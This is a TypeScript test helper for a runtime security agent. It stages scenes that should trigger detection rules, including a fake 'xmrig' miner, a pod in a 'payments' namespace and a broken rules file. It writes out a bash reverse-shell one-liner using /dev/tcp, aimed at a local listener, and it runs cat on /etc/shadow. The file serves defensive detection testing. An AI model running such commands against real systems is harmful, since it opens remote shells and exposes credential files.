/** What the bundled rules and a few of a test's own detect: something for every question of the LogQL page. */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import type { TestContext } from 'node:test';
import { PRIORITIES } from '../../collector/detection/priority.ts';
import { bundledRulesPath } from '../../rules/index.ts';
import { Containerd, PAUSE } from '../containers/containerd.ts';
import { noEngine } from '../containers/engine-process.ts';
import { Containers, noContainers } from '../kernel/containers.ts';
import { buildTrigger, TRIGGER } from '../kernel/trigger.ts';

const IMAGE = 'registry.test/team/app';
const SECRET = '/etc/shadow';
const POD_ARGUMENT = '/shikra-scene-in-a-pod';

/** Why the scenes cannot be made here, for a test's `skip`; false if they can. */
export const noScenes = () => noContainers() || noEngine('containerd', 'ctr');

/** The bundled rules, one of each priority, and those of the scenes. @returns `rules_files` */
export function sceneRules(folder: string): string[] {
  const ofLevel = PRIORITIES.map((priority) => ({
    rule: `Level ${priority.toLowerCase()}`,
    desc: 'A test.',
    condition: `evt.type in (open, openat) and fd.name = ${levelFile(folder, priority)}`,
    output: 'opened %fd.name by %proc.pid',
    priority,
  }));
  const connection = {
    rule: 'Login on another machine',
    desc: 'A test.',
    condition: 'evt.type = connect and fd.sip = 10.1.2.3',
    output: 'connected to %fd.name by %proc.pid',
    priority: 'NOTICE',
  };
  const command = {
    rule: 'Command in a pod',
    desc: 'A test.',
    condition: `evt.type = execve and proc.args contains ${POD_ARGUMENT}`,
    output: '%proc.cmdline in %k8s.ns.name',
    priority: 'CRITICAL',
  };
  const several = {
    rule: 'Many reads',
    desc: 'A test.',
    condition: 'evt.type in (open, openat) and fd.name = /etc/passwd',
    threshold: { count: 1000, window: '1m', by: ['proc.sid'] },
    output: 'read %shikra.count times',
    priority: 'DEBUG',
  };
  const file = join(folder, 'scenes.yaml');
  writeFileSync(file, JSON.stringify([...ofLevel, connection, command, several]));
  return [bundledRulesPath(), file];
}

const levelFile = (folder: string, priority: string) => join(folder, `level-${priority.toLowerCase()}`);

/** A containerd, for the scenes of pods; the agent must be told of it. */
export async function startContainerd(t: TestContext): Promise<Containerd> {
  const containerd = new Containerd();
  t.after(() => containerd.close());
  await containerd.start();
  containerd.load('k8s.io', [PAUSE, `${IMAGE}:1.2`], SECRET);
  return containerd;
}

/** "Crypto miner started by name", of a program below /tmp. @returns its pid */
export function runMiner(folder: string): number {
  const program = join(folder, 'xmrig');
  copyFileSync('/bin/true', program);
  return spawnSync(program).pid;
}

/** `containers` of an agent that asks this one and no other, and has the patience that a busy machine needs. */
export function enginesOf(containerd: Containerd): object {
  return { hold: '10s', containerd: [containerd.socket], docker: [], podman: [], cri: [] };
}

export class Scenes {
  readonly #t: TestContext;
  readonly #folder: string;
  readonly #containerd: Containerd;

  constructor(t: TestContext, folder: string, containerd: Containerd) {
    this.#t = t;
    this.#folder = folder;
    this.#containerd = containerd;
    buildTrigger();
  }

  /** One detection of each priority. */
  levels(): void {
    for (const priority of PRIORITIES) {
      const file = levelFile(this.#folder, priority);
      writeFileSync(file, '');
      readFileSync(file);
    }
  }

  async reverseShell(): Promise<void> {
    const listener = createServer((socket) =>
      socket
        .on('error', () => {})
        .resume()
        .end('exit\n'),
    );
    this.#t.after(() => listener.close());
    listener.listen(0, '127.0.0.1');
    await once(listener, 'listening');
    const { port } = listener.address() as AddressInfo;
    const script = `bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`;
    await once(spawn('bash', ['-c', script], { stdio: 'ignore', timeout: 10_000 }), 'close');
  }

  /** "Login on another machine", which is in a network of its own and not really there. */
  connection(): void {
    const script = 'busybox ip link set lo up && busybox ip addr add 10.1.2.3/32 dev lo && exec "$0" "$@"';
    execFileSync('unshare', ['-n', 'sh', '-c', script, TRIGGER, 'connect', 'v4:10.1.2.3:22', '1']);
  }

  /** "Command in a pod" and "Password database read by an untrusted program", in the namespace `payments`. */
  async pod(): Promise<void> {
    const pod = { name: 'web-0', namespace: 'payments', uid: '5f9c7d3e-0000-4000-8000-000000000001' };
    const sandbox = await this.#containerd.runPod(pod);
    const container = { name: 'app', image: `${IMAGE}:1.2`, command: ['/bin/cat', SECRET, POD_ARGUMENT] };
    await this.#containerd.runContainer(sandbox, pod, container);
  }

  /** The same in a container that no engine knows. */
  stranger(): void {
    const containers = new Containers();
    try {
      containers.run(['cat', SECRET]);
    } finally {
      containers.close();
    }
  }

  /** "Shikra internal: rules rejected". The rules of before stay. */
  brokenRules(): void {
    writeFileSync(join(this.#folder, 'scenes.yaml'), '- rule: Broken\n');
  }

  /** All of them. @returns the miner's pid */
  async play(): Promise<number> {
    this.levels();
    const pid = runMiner(this.#folder);
    await this.reverseShell();
    this.connection();
    await this.pod();
    this.stranger();
    this.brokenRules();
    return pid;
  }
}
